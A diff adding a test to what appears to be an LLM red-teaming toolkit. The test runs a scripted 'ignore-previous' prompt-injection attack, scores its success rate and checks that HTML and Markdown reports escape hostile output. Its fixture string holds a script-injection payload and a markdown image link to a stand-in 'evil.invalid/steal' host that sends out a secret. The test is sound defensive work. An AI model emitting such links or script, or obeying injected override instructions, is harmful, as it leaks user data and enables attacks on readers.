@@ -161,3 +161,32 @@ def test_the_catalogue_lists_techniques_probes_and_detectors_with_what_they_test
     assert tests["inject:ignore-previous"] == "injection" and tests["leak:base64"] == "leakage"
     assert tests["injection"] == "injection" and tests["leakage"] == "leakage"
     assert all(r.get("source") for r in rows if r.get("tests") in ("injection", "leakage"))
+
+
+def test_the_report_shows_injection_and_leakage_rates_escaped(tmp_path):
+    from assay.analysis.options import Options
+    from assay.redteam.asr import asr
+    from assay.redteam.injection import detect_canaries, run_injection
+    from assay.report import build_report, to_html, to_markdown
+    from assay.session import Session
+    from assay.store import Store
+
+    store = Store(f"sqlite:///{tmp_path / 'r.db'}")
+    evil = "<script>alert(1)</script> ![x](https://evil.invalid/steal?q=secret)"
+    _, by = injection_cases("injection-direct", ["ignore-previous"], ["review-direct"], repeats=3, seed=0)
+    h = Scripted(cases_of([i for v in by.values() for i in v]), {"obey": 1, "ignore": 1}, seed=2)
+    with ScriptedServer(handler=lambda body: f"{h(body)} {evil}") as srv:
+        session = Session(store)
+        run_injection(session, R.Model(id="t@1", base_url=srv.base_url), techniques=["ignore-previous"],
+                      carriers=["review-direct"], repeats=3, seed=0)
+    _, rater = detect_canaries(session, "injection")
+    expected = asr(store, rater=rater.id, dimension="injected", by=("model",), per="attempt")["rows"][0]
+    report = build_report(store, options=Options(rounds=10))
+    fam = report["injection"]["families"][0]
+    assert fam["dimension"] == "injected" and fam["by_model"][0]["successes"] == expected["successes"]
+    assert 0 < expected["successes"] < 3 and fam["task_done"]["n"] == 3
+    html = to_html(report)
+    assert 'id="redteam"' in html and "Prompt injection" in html and "<script>alert(1)" not in html
+    md = to_markdown(report)
+    assert "inject:ignore-previous" in md and "![x](https" not in md and "<script>" not in md
+    store.close()
